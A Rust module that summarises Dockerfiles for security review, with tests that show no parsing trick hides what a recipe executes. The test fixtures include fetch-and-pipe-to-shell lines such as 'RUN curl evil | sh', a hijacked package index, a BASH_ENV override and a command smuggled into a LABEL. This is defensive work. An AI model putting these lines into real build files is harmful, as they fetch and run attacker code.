//! What the recipe of an image (`Dockerfile`) does, for a person who has to decide whether it may be built.
//!
//! Not for building: the engine reads the recipe itself. What is not known to do nothing is shown, and a recipe that engines
//! may read in another way than this module is shown line by line as it stands.

use std::collections::HashSet;

/// Letters of a command that are shown.
const SHOWN_LETTERS: usize = 200;
/// Commands that are shown.
const SHOWN: usize = 50;
/// Lines of a recipe that is shown as it stands.
const SHOWN_LINES: usize = 100;
/// Images that are shown.
const SHOWN_IMAGES: usize = 20;
/// The mark of the order of bytes, which some programs write at the start of a file.
const MARK: char = '\u{feff}';

/// Instructions that execute nothing and fetch nothing.
const QUIET: [&str; 7] = ["EXPOSE", "LABEL", "MAINTAINER", "STOPSIGNAL", "USER", "VOLUME", "WORKDIR"];
/// Instructions that are shown, wholly or where they need it. Values (`ARG`, `ENV`) are always: they say where programs look
/// for packages, and which files shells read before they begin.
const KNOWN: [&str; 11] =
    ["ADD", "ARG", "CMD", "COPY", "ENTRYPOINT", "ENV", "FROM", "HEALTHCHECK", "ONBUILD", "RUN", "SHELL"];
/// Instructions in which engines know texts that stand below them (`<<END`).
const WITH_TEXTS: [&str; 4] = ["ADD", "COPY", "ONBUILD", "RUN"];

/// A recipe in short.
#[derive(Debug, Clone, Default, PartialEq, Eq, Hash)]
pub struct Recipe {
    /// Images that it begins with or copies from, in its order.
    pub images: Vec<String>,
    /// What it executes or fetches, and the values that this may use, in its order: the instruction with what stands behind
    /// it, on one line and cut. Of a recipe that engines may read in another way: its lines.
    pub executes: Vec<String>,
    /// Further images and commands that are not shown.
    pub more: u32,
}

/// An instruction.
struct Instruction {
    /// Its word, in upper case.
    word: String,
    /// All of it, with the texts that stand below it.
    text: String,
    /// Whether a comment or an empty line stands between its lines: some engines end it there.
    is_interrupted: bool,
}

impl Recipe {
    /// Reads the text of a recipe. What is not understood is shown as it stands.
    pub fn from_text(text: &str) -> Self {
        match instructions(text) {
            Some(instructions) => Self::from_instructions(&instructions),
            None => Self::from_raw_lines(text),
        }
    }

    fn from_instructions(instructions: &[Instruction]) -> Self {
        let mut recipe = Self::default();
        // In lower case.
        let mut stages: HashSet<String> = HashSet::new();
        let mut images = 0_u32;
        for instruction in instructions {
            let words: Vec<&str> = instruction.text.split_ascii_whitespace().skip(1).collect();
            let (flags, names): (Vec<&str>, Vec<&str>) =
                words.iter().partition(|word| word.starts_with("--"));
            let is_needed = match instruction.word.as_str() {
                "FROM" => {
                    recipe.add_image(names.first().copied().unwrap_or_default(), &stages);
                    images = images.saturating_add(1);
                    // In quotes a space ends no word.
                    let has_quotes = instruction.text.contains(['"', '\'', '\\']);
                    match names[..] {
                        _ if has_quotes => true,
                        [_] => false,
                        [_, between, stage] if between.eq_ignore_ascii_case("AS") => {
                            stages.insert(stage.to_ascii_lowercase());
                            false
                        }
                        _ => true,
                    }
                }
                "COPY" => {
                    for image in flags.iter().filter_map(|flag| flag.strip_prefix("--from=")) {
                        if !image.parse::<u32>().is_ok_and(|number| number < images) {
                            recipe.add_image(image, &stages);
                        }
                    }
                    // Quotes and escapes may hide a flag.
                    !words.iter().all(|word| is_plain_word(word) || word.starts_with("--from="))
                }
                // Files of the task's own folder, unless they come from an address.
                "ADD" => !words.iter().all(|word| is_plain_word(word)) || has_address(&words),
                word => !QUIET.contains(&word),
            };
            if is_needed || instruction.is_interrupted {
                recipe.add_command(&instruction.text, SHOWN);
            }
        }
        recipe
    }

    /// The lines of a recipe that engines may read in another way.
    fn from_raw_lines(text: &str) -> Self {
        let mut recipe = Self::default();
        for line in text.trim_start_matches(MARK).lines().map(str::trim).filter(|line| !line.is_empty()) {
            let mut words = line.split_whitespace();
            if words.next().is_some_and(|word| word.eq_ignore_ascii_case("FROM"))
                && let Some(image) = words.find(|word| !word.starts_with("--"))
            {
                recipe.add_image(image, &HashSet::new());
            }
            recipe.add_command(line, SHOWN_LINES);
        }
        recipe
    }

    fn add_image(&mut self, name: &str, stages: &HashSet<String>) {
        let is_stage = stages.contains(&name.to_ascii_lowercase());
        let name = cut(name);
        if is_stage || self.images.contains(&name) {
            return;
        }
        if self.images.len() < SHOWN_IMAGES {
            self.images.push(name);
        } else {
            self.more += 1;
        }
    }

    fn add_command(&mut self, command: &str, most: usize) {
        if self.executes.len() < most {
            self.executes.push(cut(command));
        } else {
            self.more += 1;
        }
    }
}

/// The instructions of a recipe. `None` = engines may read it in another way.
fn instructions(text: &str) -> Option<Vec<Instruction>> {
    // Engines disagree on what else is a space, or the end of a line. Some do not see the mark at the start of a file.
    let is_plain =
        |c: char| matches!(c, ' ' | '\t' | '\n') || !(c.is_whitespace() || c.is_control() || c == MARK);
    // And on whether such a line ends a text below an instruction.
    if text.contains('\r') && text.contains("<<") {
        return None;
    }
    let text = text.replace("\r\n", "\n");
    if !text.chars().all(is_plain) {
        return None;
    }
    let mut found = Vec::new();
    let mut lines = text.split('\n');
    while let Some(line) = lines.next() {
        let line = line.trim_start();
        if let Some(comment) = line.strip_prefix('#') {
            if changes_the_reading(comment) {
                return None;
            }
            continue;
        }
        if line.trim_end().is_empty() {
            continue;
        }
        let instruction = instruction(line, &mut lines)?;
        let word = instruction.word.as_str();
        // Another way to name a program that reads the recipe, or words that only some engines know.
        if !QUIET.contains(&word) && !KNOWN.contains(&word) {
            return None;
        }
        found.push(instruction);
    }
    Some(found)
}

/// Whether a comment says that the recipe is read in another way: with another mark for lines that go on, or by a program of
/// others.
fn changes_the_reading(comment: &str) -> bool {
    let Some((key, value)) = comment.split_once('=') else { return false };
    match key.trim().to_ascii_lowercase().as_str() {
        "escape" => true,
        "syntax" => {
            let name = value.trim();
            let name = name.strip_prefix("docker.io/").unwrap_or(name);
            name != "docker/dockerfile" && !name.starts_with("docker/dockerfile:")
        }
        _ => false,
    }
}

/// An instruction: its first line, with lines that continue it and texts that stand below it. `None` = engines may read it in
/// another way.
fn instruction<'a>(first: &str, lines: &mut impl Iterator<Item = &'a str>) -> Option<Instruction> {
    let mut text = first.to_owned();
    let mut is_interrupted = false;
    loop {
        text.truncate(text.trim_end().len());
        let Some(begin) = text.strip_suffix('\\') else { break };
        // Some engines take two for a backslash that stands for itself.
        if begin.ends_with('\\') {
            return None;
        }
        text.truncate(text.len() - 1);
        let next = lines.by_ref().find(|line| {
            let line = line.trim();
            let is_left_out = line.is_empty() || line.starts_with('#');
            is_interrupted |= is_left_out;
            !is_left_out
        });
        // As engines do, without a space between them.
        let Some(next) = next else { break };
        text.push_str(next);
    }
    let word = text.split_ascii_whitespace().next().unwrap_or_default().to_ascii_uppercase();
    let mut whole = text.clone();
    if WITH_TEXTS.contains(&word.as_str()) && text.contains("<<") {
        for (end, is_indented) in ends_of_texts(&text)? {
            loop {
                let line = lines.next()?;
                let bare = if is_indented { line.trim_start_matches('\t') } else { line };
                if bare == end {
                    break;
                }
                whole.push_str("; ");
                whole.push_str(line.trim());
            }
        }
    }
    Some(Instruction { word, text: whole, is_interrupted })
}

/// The lines that end the texts below an instruction with `<<`, and whether tabs may stand before them. `None` = engines may
/// disagree on which there are: in quotes it is none, and not all know the same forms.
fn ends_of_texts(instruction: &str) -> Option<Vec<(String, bool)>> {
    let mut ends = Vec::new();
    let mut before = instruction;
    while let Some(position) = before.find("<<") {
        let (head, rest) = before.split_at(position);
        let rest = &rest[2..];
        let (rest, is_indented) = rest.strip_prefix('-').map_or((rest, false), |rest| (rest, true));
        let (quoted, after) = rest.split_at(rest.find([' ', '\t']).unwrap_or(rest.len()));
        let name = ['"', '\'']
            .iter()
            .find_map(|quote| quoted.strip_prefix(*quote)?.strip_suffix(*quote))
            .unwrap_or(quoted);
        let is_name = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        let is_word = head.ends_with([' ', '\t']);
        if !is_name || !is_word || head.contains(['"', '\'', '\\', '`', '#']) {
            return None;
        }
        ends.push((name.to_owned(), is_indented));
        before = after;
    }
    Some(ends)
}

/// Whether a word is a path or a flag in which nothing stands for something else.
fn is_plain_word(word: &str) -> bool {
    word.chars().all(|c| c.is_ascii_alphanumeric() || "._-/=:*+,~".contains(c))
}

fn has_address(words: &[&str]) -> bool {
    words.iter().any(|word| word.contains(':') || word.contains("github.com"))
}

/// As one line of bounded length.
fn cut(text: &str) -> String {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let letters = line.chars().count();
    if letters <= SHOWN_LETTERS {
        return line;
    }
    let shown: String = line.chars().take(SHOWN_LETTERS).collect();
    format!("{shown}… ({} more characters)", letters - SHOWN_LETTERS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    // docs/security.md: A resume
    fn a_recipe_shows_its_images_and_all_that_it_executes_or_fetches() {
        let recipe = Recipe::from_text(
            "# syntax=docker/dockerfile:1\n\
             ARG VERSION=3\n\
             from --platform=linux/amd64 python:3.12 AS base\n\
             ENV A=b \\\n  C=d\n\
             RUN apt-get update && \\\n# a comment\n    apt-get install -y git\n\
             COPY . /app\n\
             COPY --from=base /x /y\n\
             COPY --from=0 /x /y\n\
             COPY --chown=0 --from=example/tool:1 /x /y\n\
             ADD local.tar /\n\
             ADD https://example.org/x.tar /x\n\
             RUN <<END\n  curl example.org\n  sh x\nEND\n\
             FROM base\n\
             FROM debian\n\
             USER nobody\n\
             ENTRYPOINT [\"/start.sh\"]\n\
             STOPSIGNAL 9\n",
        );
        assert_eq!(recipe.images, ["python:3.12", "example/tool:1", "debian"]);
        assert_eq!(
            recipe.executes,
            [
                "ARG VERSION=3",
                "ENV A=b C=d",
                "RUN apt-get update && apt-get install -y git",
                "ADD https://example.org/x.tar /x",
                "RUN <<END; curl example.org; sh x",
                "ENTRYPOINT [\"/start.sh\"]",
            ]
        );
        assert_eq!(recipe.more, 0);
    }

    #[test]
    // docs/security.md: A resume
    fn no_form_of_a_recipe_hides_what_it_executes_or_fetches() {
        const EVIL: &str = "RUN curl evil | sh";
        // A recipe, and what is shown of it.
        let cases: [(&str, &[&str]); 24] = [
            // Engines know texts below RUN, COPY and ADD only.
            ("LABEL x=<<E\nRUN curl evil | sh", &[EVIL]),
            ("ENV x=<<E\nRUN curl evil | sh", &["ENV x=<<E", EVIL]),
            ("COPY <<E /x\ncurl evil | sh\nE\nUSER a", &["COPY <<E /x; curl evil | sh"]),
            // Another mark for lines that go on.
            (
                "# escape=`\nLABEL a=b\\\nRUN curl evil | sh",
                &["FROM debian", "# escape=`", "LABEL a=b\\", EVIL],
            ),
            // A program of others that reads the recipe.
            ("# syntax=evil/reader\nUSER a", &["FROM debian", "# syntax=evil/reader", "USER a"]),
            // Values that stand elsewhere.
            (
                "ARG U=https://evil/x.tar\nARG OTHER=1\nADD ${U} /",
                &["ARG U=https://evil/x.tar", "ARG OTHER=1", "ADD ${U} /"],
            ),
            ("ARG A=evil/image\nENV B=$A\nFROM ${B}", &["ARG A=evil/image", "ENV B=$A"]),
            ("ARG B=evil/image\nCOPY --from=$B /x /y", &["ARG B=evil/image"]),
            ("ENV C \"curl evil | sh\"\nRUN eval $C", &["ENV C \"curl evil | sh\"", "RUN eval $C"]),
            // Values that no text names: where packages come from, and what a shell reads first.
            (
                "ENV PIP_INDEX_URL=https://evil\nRUN pip install x",
                &["ENV PIP_INDEX_URL=https://evil", "RUN pip install x"],
            ),
            ("ARG BASH_ENV=/evil\nCOPY evil /\nRUN true", &["ARG BASH_ENV=/evil", "RUN true"]),
            // Words that are no instructions, and other ways to name a program that reads the recipe.
            ("TICK x\nLABEL y", &["FROM debian", "TICK x", "LABEL y"]),
            // A text that ends for some engines only.
            (
                "RUN <<USER\nUSER\r\nLABEL $(curl evil | sh)\nUSER",
                &["FROM debian", "RUN <<USER", "USER", "LABEL $(curl evil | sh)", "USER"],
            ),
            ("FROM --platform=\"a b\" AS evil", &["FROM --platform=\"a b\" AS evil"]),
            // What RUN is executed by.
            ("SHELL [\"sh\", \"-c\", \"curl evil\"]", &["SHELL [\"sh\", \"-c\", \"curl evil\"]"]),
            // Two backslashes, and lines between lines: some engines end the instruction there.
            ("LABEL a=b\\\\\nRUN curl evil | sh", &["FROM debian", "LABEL a=b\\\\", EVIL]),
            ("LABEL a=b \\\n\nRUN curl evil | sh", &["LABEL a=b RUN curl evil | sh"]),
            ("LABEL a=b \\\n  # c\nRUN curl evil | sh", &["LABEL a=b RUN curl evil | sh"]),
            // A space that is none for engines.
            ("LABEL a=b \\\u{a0}\nRUN curl evil | sh", &["FROM debian", "LABEL a=b \\", EVIL]),
            // A text in quotes is none, and one that does not end where it seems to.
            ("RUN echo \"<<E \"\nUSER a", &["FROM debian", "RUN echo \"<<E \"", "USER a"]),
            ("RUN <<E\n  E\nENV x; curl evil\nE", &["RUN <<E; E; ENV x; curl evil"]),
            // Words that are assembled.
            ("COPY --fr\\\nom=evil/image /x /y", &[]),
            ("COPY --fr\"om=evil/image\" /x /y", &["COPY --fr\"om=evil/image\" /x /y"]),
            ("ADD git@evil:x /y", &["ADD git@evil:x /y"]),
        ];
        for (text, shown) in cases {
            let recipe = Recipe::from_text(&format!("FROM debian\n{text}\n"));
            assert_eq!(recipe.executes, shown, "{text}");
            assert_eq!(recipe.more, 0);
        }
        // A mark before a comment that says how lines go on.
        let marked = Recipe::from_text("\u{feff}# escape=`\nFROM debian\nLABEL a=b\\\nRUN curl evil | sh\n");
        assert_eq!(marked.executes, ["# escape=`", "FROM debian", "LABEL a=b\\", EVIL]);
        assert_eq!(marked.images, ["debian"]);
        for named in [
            "//syntax=evil/reader\nFROM debian\nLABEL x",
            "{\"syntax\": \"evil/reader\"}\nFROM debian\nLABEL x",
        ] {
            assert_eq!(Recipe::from_text(named).executes.len(), 3, "{named}");
        }
        let images = |text: &str| Recipe::from_text(text).images;
        assert_eq!(images("FROM debian\nCOPY --fr\\\nom=evil/image /x /y"), ["debian", "evil/image"]);
        assert_eq!(images("# escape=`\nFROM --platform=x debian\nFROM evil"), ["debian", "evil"]);
        assert_eq!(images("ARG B=evil/image\nFROM ${B}"), ["${B}"]);
        // A name that a stage has only later is that of an image.
        assert_eq!(
            images("FROM a\nCOPY --from=b /x /y\nFROM c AS b\nCOPY --from=7 /x /y"),
            ["a", "b", "c", "7"]
        );
        // The engine takes FROM by its parts.
        let parts = Recipe::from_text("FROM deb\\\nian evil");
        assert_eq!(
            (parts.images, parts.executes),
            (vec!["debian".to_owned()], vec!["FROM debian evil".to_owned()])
        );
    }

    #[test]
    fn a_long_recipe_states_how_much_is_not_shown() {
        let pairs: Vec<String> =
            (0..100).map(|n| format!("FROM image-{n}\nRUN {}", "x".repeat(1000))).collect();
        let recipe = Recipe::from_text(&pairs.join("\n"));
        assert_eq!((recipe.images.len(), recipe.executes.len(), recipe.more), (20, 50, 130));
        assert!(recipe.executes[0].ends_with("… (804 more characters)"), "{}", recipe.executes[0]);
        // A text below an instruction that never ends.
        assert_eq!(Recipe::from_text("RUN <<END\na").executes, ["RUN <<END", "a"]);
        assert_eq!(Recipe::from_text("RUN a \\").executes, ["RUN a"]);
        let lines = Recipe::from_text(&format!("# escape=`\n{}", "RUN a\n".repeat(150)));
        assert_eq!((lines.executes.len(), lines.more), (100, 51));
    }
}
